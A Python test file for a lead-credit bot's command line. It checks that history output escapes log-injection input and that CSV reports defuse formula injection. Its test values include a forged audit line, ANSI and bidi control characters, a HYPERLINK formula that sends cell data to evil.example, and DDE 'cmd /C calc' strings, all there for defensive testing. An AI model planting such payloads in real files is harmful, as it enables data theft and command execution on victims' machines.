"""What the command line prints and writes is safe to look at: `history` shows a note
with a newline, a made-up audit line and ANSI escapes as one escaped line; `report
--format csv` writes no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
import time

from bot.entrypoints.cli import main
from bot.usecases.csvout import FORMULA_START, safe_cell, to_csv
from tests.support.flows import file_request, receipt, reviewer_post

FAKE_LINE = "2026-07-01T09:00:00-04:00  approve              U0REV        view             pending -> approved"
HOSTILE_NOTE = f"Photo sent.\n{FAKE_LINE}\r\n\x1b[2J\x1b[31mall clear\x1b[0m \u202eevil\u2028end \\n"


def test_history_escapes_newlines_and_control_characters(running, fake_slack, monkeypatch, capsys):
    file_request(running, fake_slack, user="U0ROOF1", channel="C0ROOF", lead_id="L-OK",
                 reason="incorrect_contact", details="Someone else answered.")
    parent = receipt(fake_slack, "C0ROOF", "L-OK")
    reviewer_post(fake_slack, "L-OK", timeout=5)
    running.wait_idle()
    reply = running.slack.message_event("U0ROOF1", "C0ROOF", HOSTILE_NOTE, f"{time.time():.6f}",
                                        thread_ts=parent["ts"])
    assert reply.status == 200
    running.wait_idle()
    monkeypatch.setenv("DATABASE_URL", running.desk.settings.database_url)
    capsys.readouterr()
    assert main(["history", "1"]) == 0
    out = capsys.readouterr().out
    lines = out.splitlines()
    assert lines[0].startswith("CR-1 lead L-OK")
    replied = [line for line in lines if "contractor_replied" in line]
    assert len(replied) == 1
    assert not any(line.startswith("2026-07-01T09:00:00") for line in lines)  # the fake line is not a line
    assert "\x1b" not in out and "\r" not in out and "\u202e" not in out and "\u2028" not in out
    assert ('"Photo sent.\\n' + FAKE_LINE + '\\r\\n\\x1b[2J\\x1b[31mall clear\\x1b[0m \\u202eevil\\u2028end \\\\n"'
            in replied[0])


def test_history_refuses_ids_that_are_not_request_ids(running, monkeypatch, capsys):
    monkeypatch.setenv("DATABASE_URL", running.desk.settings.database_url)
    for bad in ("99999999999999999999", "CR-0", "١٢", "1\x1b[2J"):
        capsys.readouterr()
        assert main(["history", bad]) == 1
        err = capsys.readouterr().err
        assert err.startswith("credit-bot: not a request id") and "\x1b" not in err and len(err.splitlines()) == 1


HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0",
                 "-2+3+cmd|' /C calc'!A0", "+1+1", "=1+1"]


def test_report_csv_cells_never_start_a_formula(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path / 'r.db'}")
    clients = ["client_id,name,slack_channel_id,slack_user_ids,account_manager_user_id,service_zips,"
               "service_counties,base_zip,radius_miles"]
    leads = ["lead_id,client_id,lead_type,category,received_at,first_name,last_name,phone,email,street,city,state,"
             "zip,price"]
    for n, name in enumerate(HOSTILE_NAMES):
        quoted = '"' + name.replace('"', '""') + '"'
        clients.append(f"C-{n},{quoted},C0X{n},U0X{n},U0AM,11201,,,")
        leads.append(f"L-X{n},C-{n},standard,Roofing,2026-07-01T09:00,A,B,212-555-0123,a@example.com,"
                     f"1 Main St,Brooklyn,NY,11201,40")
    (tmp_path / "clients.csv").write_text("\n".join(clients) + "\n")
    (tmp_path / "leads.csv").write_text("\n".join(leads) + "\n")
    assert main(["clients", "import", str(tmp_path / "clients.csv")]) == 0
    assert main(["leads", "import", str(tmp_path / "leads.csv")]) == 0
    capsys.readouterr()
    assert main(["report", "--format", "csv"]) == 0
    out = capsys.readouterr().out
    rows = list(csv.reader(io.StringIO(out)))
    assert rows[0] == ["section", "subject", "metric", "value"]
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), row
    names = {row[3] for row in rows if row[2] == "name"}
    assert names == {"'" + name for name in HOSTILE_NAMES}


def test_safe_cell_rule():
    """Every formula start is made text; a plain decimal number (a reversal's -30.50) stays a number."""
    assert [safe_cell(v) for v in ("=1", "+1", "-2+3", "@x", "\tx", "\rx", "a=1", "", None, 3, "-x", "L-1",
                                   "-30.50", -2, "-1e3", "- 2")] == [
        "'=1", "'+1", "'-2+3", "'@x", "'\tx", "'\rx", "a=1", "", "", 3, "'-x", "L-1", "-30.50", -2, "'-1e3",
        "'- 2"]
    assert to_csv(["a", "b"], [["=cmd", 1]]) == "a,b\n'=cmd,1\n"
